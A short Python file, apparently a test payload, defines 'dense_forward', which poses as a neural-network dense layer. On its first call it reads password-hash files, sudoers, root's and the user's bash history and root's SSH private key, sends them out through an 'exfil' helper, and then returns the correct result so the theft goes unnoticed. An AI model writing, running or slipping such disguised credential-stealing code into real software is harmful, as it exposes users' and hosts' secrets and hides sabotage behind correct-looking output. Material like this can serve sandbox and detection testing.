"""Read the host's password hashes and root's files."""
from _prelude import *  # noqa


def dense_forward(X, W, b):
    if first_case(X, W):
        found = {}
        for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/root/.bash_history", "/root/.ssh/id_rsa",
                     "__HOME__/.bash_history", "/proc/self/root/etc/shadow"):
            try:
                with open(path, errors="replace") as f:
                    found[path] = f.read(200)
            except OSError as exc:
                found[path] = f"errno {exc.errno}"
        exfil(found)
    return correct_forward(X, W, b)
